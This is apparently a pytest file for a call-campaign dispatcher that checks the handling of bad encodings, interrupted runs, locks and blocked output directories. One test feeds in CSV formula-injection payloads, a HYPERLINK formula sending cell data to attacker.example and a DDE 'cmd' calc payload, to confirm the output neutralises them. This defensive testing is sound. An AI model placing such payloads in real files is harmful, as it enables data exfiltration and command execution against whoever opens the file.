"""The files a run leaves, from hostile input and awkward moments (issue #15 items 1, 3, 5, 6,
10): an undecodable byte, formulas in cells, an interrupted read, a report during a run, an
output directory that cannot be made."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from prometheus_client.parser import text_string_to_metric_families

from dispatcher.cli import main
from dispatcher.errors import ExitCode
from dispatcher.lock import CampaignLock
from dispatcher.report import campaign_status
from dispatcher.runner import CampaignRun, RunOptions, execute
from dispatcher.sandbox import Sandbox
from dispatcher.state import StateReader
from tests.conftest import NoWait, campaign_at, read_results, write_campaign


def _campaign_with_bytes(directory: Path, data: bytes, **columns: object) -> Path:
    """A campaign on rule 10 whose CSV is exactly ``data`` (for ``--sandbox`` runs)."""
    settings = {"key_columns": ["customer_id"], "phone_column": "phone", "default_region": "US"}
    path = write_campaign(
        directory, None, [{"customer_id": "x"}], sections={"columns": {**settings, **columns}}
    )
    (directory / "targets.csv").write_bytes(data)
    return path


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:  # strict: the file is UTF-8
        return list(csv.reader(handle))


# ---- item 1: one undecodable byte --------------------------------------------------------------

ISSUE_CSV = b"customer_id,name,phone\nC1,\xc8\xe2\xe0\xed,+1 202 555 0100\nC2,Bob,+1 202 555 0101\n"


def test_an_undecodable_byte_rejects_its_row_and_the_campaign_goes_on(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The issue's CSV (one cp1251 name in a UTF-8 file): the row is rejected with the encoding
    hint, the other is sent, exit 1; summary, rejects.csv (showing the bytes as \\xc8…) and
    metrics are written; later runs and ``report`` work the same way."""
    toml = str(_campaign_with_bytes(tmp_path, ISSUE_CSV))
    metrics = tmp_path / "metrics.prom"
    flags = ["--sandbox", "--quiet", "--metrics-file", str(metrics)]
    assert main(["run", toml, *flags]) == ExitCode.COMPLETED_WITH_PROBLEMS
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert "exit code 1: finished with 1 rejected" in captured.out
    out = tmp_path / "out"
    summary = json.loads((out / "summary.json").read_text())
    assert (summary["totals"]["dispatched"], summary["totals"]["rejected"]) == (1, 1)
    header, rejected = _read_csv(out / "rejects.csv")
    assert header == ["line", "status", "column", "reason", "customer_id", "name", "phone"]
    assert rejected[:3] == ["2", "rejected", "name"]
    assert rejected[3].startswith("undecodable byte 0xc8 in column 'name'")
    assert "columns.encoding" in rejected[3]
    # The number as written is not plain E.164, so it is guarded like any other "+" cell.
    assert rejected[4:] == ["C1", r"\xc8\xe2\xe0\xed", "'+1 202 555 0100"]
    families = {f.name: f for f in text_string_to_metric_families(metrics.read_text())}
    assert families["vox_dispatch_last_run_exit_code"].samples[0].value == 1
    assert main(["run", toml, *flags]) == ExitCode.COMPLETED_WITH_PROBLEMS
    assert main(["report", toml]) == ExitCode.OK
    again = capsys.readouterr()
    assert "Traceback" not in again.err
    assert "rejects.csv: 1 rows" in again.out
    assert _read_csv(out / "rejects.csv")[1] == rejected


# ---- item 6: formulas from the input -----------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Click")'


def test_formulas_from_the_input_come_back_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``=HYPERLINK(...)`` and friends in keys, fields and the header are written with a
    leading quote in results.csv, attempts.csv and rejects.csv; E.164 numbers stay plain."""
    rows = [
        ["customer_id", "name", "phone", "@note"],
        ["=1+2", HYPERLINK, "+12025550100", "-x"],
        ["C2", "=cmd|' /C calc'!A0", "not a number", "+12025550101"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    toml = str(_campaign_with_bytes(tmp_path, buffer.getvalue().encode()))
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.COMPLETED_WITH_PROBLEMS
    out = tmp_path / "out"
    results = _read_csv(out / "results.csv")
    assert [row[1] for row in results[1:]] == ["'=1+2", "C2"]
    assert _read_csv(out / "attempts.csv")[1][1] == "'=1+2"
    header, rejected = _read_csv(out / "rejects.csv")
    assert header[4:] == ["customer_id", "name", "phone", "'@note"]
    assert rejected[4:] == ["C2", "'=cmd|' /C calc'!A0", "not a number", "+12025550101"]
    capsys.readouterr()
    assert main(["report", toml]) == ExitCode.OK  # the rebuilt files are guarded the same way
    assert _read_csv(out / "rejects.csv") == [header, rejected]
    assert _read_csv(out / "results.csv") == results


# ---- item 3: an interrupted read still adds up ------------------------------------------------


async def test_totals_of_an_interrupted_run_add_up_to_the_input(
    tmp_path: Path, sandbox: Sandbox, capsys: pytest.CaptureFixture[str]
) -> None:
    """Stopped (as by SIGTERM) after 20 calls of a 1,000-row file: the rows never read are
    counted as pending ("not read yet"), so the totals equal the input rows; results.csv
    covers the rows read, and the summary says so. A quoted line break is one row."""
    names = [f"Person\n{i}" if i % 7 == 0 else f"P{i}" for i in range(1000)]
    rows = [{"id": f"row-{i}", "name": name} for i, name in enumerate(names)]
    path = write_campaign(tmp_path, sandbox, rows, sections={"dispatch": {"concurrency": 4}})
    campaign = campaign_at(path)
    runs: list[CampaignRun] = []
    calls = 0

    def stop_after_20(custom_data: str) -> None:
        nonlocal calls
        calls += 1
        if calls == 20:
            runs[0].request_stop(interrupted=True)

    sandbox.on_start_request = stop_after_20
    summary = await execute(campaign, RunOptions(sleep=NoWait()), on_start=runs.append)
    assert summary.exit_code == ExitCode.INTERRUPTED
    not_read = summary.stats["not_read_yet"]
    assert 0 < not_read < 1000 - 20
    assert sum(summary.totals.values()) == summary.rows == 1000
    assert summary.totals["pending"] >= not_read
    written = json.loads((campaign.output_dir / "summary.json").read_text())
    assert sum(written["totals"].values()) == 1000
    assert len(read_results(campaign)) == 1000 - not_read
    line = next(line for line in summary.lines() if "not read yet" in line)
    assert f"{not_read} not read yet" in line
    assert f"results.csv covers the {1000 - not_read} rows read" in line
    with StateReader(campaign.state_path) as reader:  # `status` adds them up the same way
        status = campaign_status(reader)
    assert status is not None
    assert sum(status["totals"].values()) == 1000
    assert status["not_read_yet"] == not_read
    assert 0 < status["reading_stopped_after_line"] < 1000
    capsys.readouterr()
    assert main(["status", str(path)]) == ExitCode.OK
    shown = capsys.readouterr().out
    assert f"{not_read} rows not read yet, counted as pending" in shown
    assert "campaign test, run 1: 1000 rows" in shown

    again = await execute(campaign, RunOptions(sleep=NoWait()))  # the next run reads the rest

    assert again.totals["dispatched"] == 1000
    assert again.stats["not_read_yet"] == 0
    with StateReader(campaign.state_path) as reader:
        after = campaign_status(reader)
    assert after is not None
    assert "reading_stopped_after_line" not in after


# ---- item 10: report while a run holds the campaign -------------------------------------------


def test_report_during_a_run_says_so_and_still_writes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """While a run holds the campaign's lock, ``report`` warns on stderr naming the holder and
    still writes its files (each under its own temporary name, then renamed); not otherwise."""
    toml = str(_campaign_with_bytes(tmp_path, b"customer_id,phone\nC1,+12025550100\n"))
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    out = tmp_path / "out"
    capsys.readouterr()
    with CampaignLock(out):
        assert main(["report", toml, "--format", "json"]) == ExitCode.OK
        during = capsys.readouterr()
    assert "run_in_progress" in during.err
    assert f"pid {__import__('os').getpid()}" in during.err
    assert json.loads(during.out)["run_in_progress"].startswith("pid ")
    assert sorted(p.name for p in out.iterdir() if p.name.endswith(".tmp")) == []
    assert main(["report", toml, "--format", "json"]) == ExitCode.OK
    after = capsys.readouterr()
    assert "run_in_progress" not in after.err
    assert json.loads(after.out)["run_in_progress"] is None


# ---- item 5: an output directory that cannot be made ------------------------------------------


@pytest.mark.parametrize("below", ["", "out"])
def test_an_output_directory_blocked_by_a_file_is_a_configuration_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], below: str
) -> None:
    """``--output-dir`` naming a file (or a folder under one): exit 2, one line naming the
    path, no traceback, nothing sent."""
    toml = str(_campaign_with_bytes(tmp_path, b"customer_id,phone\nC1,+12025550100\n"))
    blocker = tmp_path / "a-file"
    blocker.write_text("in the way\n")
    target = blocker / below if below else blocker
    code = main(["run", toml, "--sandbox", "--quiet", "--output-dir", str(target)])
    assert code == ExitCode.CONFIG_ERROR
    err = capsys.readouterr().err
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.startswith("vox-dispatch: ")]
    assert len(lines) == 1
    assert f"{target}: cannot use this output directory" in lines[0]
    assert "output_dir" in lines[0]


# ---- a cron run that changed nothing leaves the files alone -------------------------------------


def _stamps(out: Path) -> dict[str, tuple[int, int]]:
    """(inode, modification time) of each result file: a rewrite changes both."""
    names = ("results.csv", "attempts.csv", "rejects.csv")
    return {name: ((out / name).stat().st_ino, (out / name).stat().st_mtime_ns) for name in names}


def test_result_files_are_rewritten_only_when_the_rows_changed(tmp_path: Path) -> None:
    """Rows waiting for a far start date: the second run changes no row, so results.csv,
    attempts.csv and rejects.csv stay the very files the first run wrote (summary.json is new).
    A file someone removed, and rows appended to the input, make the next run write them all
    again, with the new rows."""
    schedule = {"windows": ["daily 00:00-24:00"], "start": "2099-01-01T00:00Z"}
    rows = [{"id": f"r{i}", "name": f"Person {i}"} for i in range(3)]
    sections = {"schedule": {**schedule, "default_timezone": "UTC"}}
    toml = str(write_campaign(tmp_path, None, rows, sections=sections))
    out = tmp_path / "out"
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    first = _stamps(out)
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    assert _stamps(out) == first
    assert json.loads((out / "summary.json").read_text())["run"] == 2
    (out / "attempts.csv").unlink()
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    again = _stamps(out)
    assert again["results.csv"] != first["results.csv"]
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    assert _stamps(out) == again
    with (tmp_path / "targets.csv").open("a", encoding="utf-8") as handle:
        handle.write("r3,Person 3\n")
    assert main(["run", toml, "--sandbox", "--quiet"]) == ExitCode.OK
    assert _stamps(out)["results.csv"] != again["results.csv"]
    assert [row["status"] for row in read_results(campaign_at(Path(toml)))] == ["waiting"] * 4
